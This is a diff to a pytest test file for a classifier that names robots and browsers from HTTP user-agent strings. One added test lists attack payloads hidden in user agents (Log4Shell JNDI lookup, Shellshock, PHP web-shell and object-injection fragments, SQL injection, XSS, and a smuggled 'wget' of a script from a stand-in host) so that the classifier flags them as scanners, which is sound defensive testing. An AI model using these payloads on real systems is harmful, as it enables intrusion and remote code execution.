@@ -9,9 +9,10 @@ import pytest
 from crawleruseragents import CRAWLER_USER_AGENTS_DATA
 
 from pipeline.enrich.labels import Label
-from pipeline.enrich.robots import NOT_ROBOTS, Robots, name_of
+from pipeline.enrich.robots import IN_AGENT, NOT_ROBOTS, Robots, name_of
 
 CORPUS = Path(__file__).parents[2] / "../shared/data/ua-corpus/ua.jsonl"
+AI_NAMES = CORPUS.parents[1] / "lists/crawlers/ai.robots.json"
 ANDROID = (
     "Mozilla/5.0 (Linux; Android 14; {}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile Safari/537.36"
 )
@@ -50,6 +51,11 @@ def _name(robots: Robots, agent: str) -> str:
         ("Some-Unknown-Bot/1.0", "unlisted bot", None),
         ("InnocentName/1.0 (+https://example.org/about)", "agent with a web address", None),
         ("InnocentName/1.0 (someone@example.org)", "agent with an e-mail", None),
+        ("InnocentName/1.0", "unlisted program", Label.HTTP_LIBRARY),
+        ("Mozilla/5.0 (compatible; InnocentName/1.0)", "unlisted program", Label.HTTP_LIBRARY),
+        ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; InnocentName/1.0)", "unlisted crawler", None),
+        ("Mozilla/4.0 (compatible; MSIE 5.01; InnocentAgent 2.0; Windows NT)", "unlisted agent", None),
+        ("Mozilla/5.0 (Windows NT 10.0) Chrome/55.0 Safari/537.36 (via mail.example - mail proxy)", "unlisted proxy", None),
     ],
 )  # fmt: skip
 def test_a_robot_is_known_by_name_and_category(robots: Robots, agent: str, name: str, category: Label | None) -> None:
@@ -70,10 +76,37 @@ def test_a_robot_is_known_by_name_and_category(robots: Robots, agent: str, name:
         "fuboTV/4.75.0 (Linux;Android 9; AFTDCT31 Build/PS7664.3772N) FuboPlayer/v1.34.0",
         "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; Embedded Web Browser from: http://bsalsa.com/; .NET CLR 2.0)",
         "Mozilla/5.0 (Linux; Android 8.0.0) AppleWebKit/537.36 Chrome/101.0.4951.41 Mobile Safari/537.36 (Ecosia android@101.0.4951.41)",
+        "Mozilla/5.0",
+        "+Simple Browser",
+        "Lynx/2.9.0dev.4 libwww-FM/2.14 SSL-MM/1.4.1 GNUTLS/2.12.23",
+        "InnocentApp/24.1 (iPhone; iOS 17.1.2; Scale/3.00)",
+        "InnocentApp/2 CFNetwork/1121.2.2 Darwin/19.3.0",
+        "InnocentClient/2.0 (win10 x64)",
+        "LibWWW/5.0 (Linux; Android 7.0; SM-G950F) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Mobile Safari/537.36",
     ],
 )  # fmt: skip
 def test_a_persons_browser_is_no_robot(robots: Robots, agent: str) -> None:
     assert _name(robots, agent) == ""
+
+
+@pytest.mark.parametrize(
+    "attack",
+    [
+        "${jndi:ldap://x.example/a}",
+        "() { :; }; /bin/sh -c id",
+        '}__test|O:21:"JDatabaseDriverMysqli":3:{s:2:"fc"',
+        '<?php system("id"); ?>',
+        "' or '1'='1",
+        "1 UNION ALL SELECT 1,2",
+        "; wget http://x.example/a.sh",
+        "<script>alert(1)</script>",
+    ],
+)
+def test_an_attack_in_an_agent_is_named_alone_and_behind_a_browser(robots: Robots, attack: str) -> None:
+    for agent in (attack, f"{ANDROID.format('SM-S918B')} {attack}", f"Mozilla/5.0 {attack}"):
+        found = robots.find(agent)
+        assert found is not None
+        assert (found.name, found.category) == (IN_AGENT, Label.ROBOT_SCANNER)
 
 
 def test_a_robot_on_a_phone_named_cubot_is_still_a_robot(robots: Robots) -> None:
@@ -118,6 +151,20 @@ def test_recall_and_false_alarms_on_the_public_corpus(robots: Robots) -> None:
             found[label] = found.get(label, 0) + bool(_name(robots, row["ua"]))
     share = {label: found[label] / total[label] for label in total}
     assert share["bot"] == 1.0
-    assert share["bot, others' lists"] >= 0.77
-    assert found["browser"] <= 3, "a library, a preview and a crawler that the corpus calls browsers"
+    assert share["bot, others' lists"] >= 0.95
+    assert found["browser"] <= 0.003 * total["browser"], (
+        "a preview, a library and three robots that the corpus calls browsers"
+    )
     assert found["app"] == 0
+
+
+@pytest.mark.skipif(not AI_NAMES.exists(), reason="the public list of AI robots is not beside the checkout")
+def test_every_name_of_another_list_is_found_in_each_form_that_names_no_browser(robots: Robots) -> None:
+    names = json.loads(AI_NAMES.read_text(encoding="utf-8"))
+    forms = (
+        "{}/1.0",
+        "Mozilla/5.0 (compatible; {}/1.0)",
+        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; {}/1.0)",
+    )
+    assert len(names) > 100
+    assert [name for name in names for form in forms if not _name(robots, form.format(name))] == []
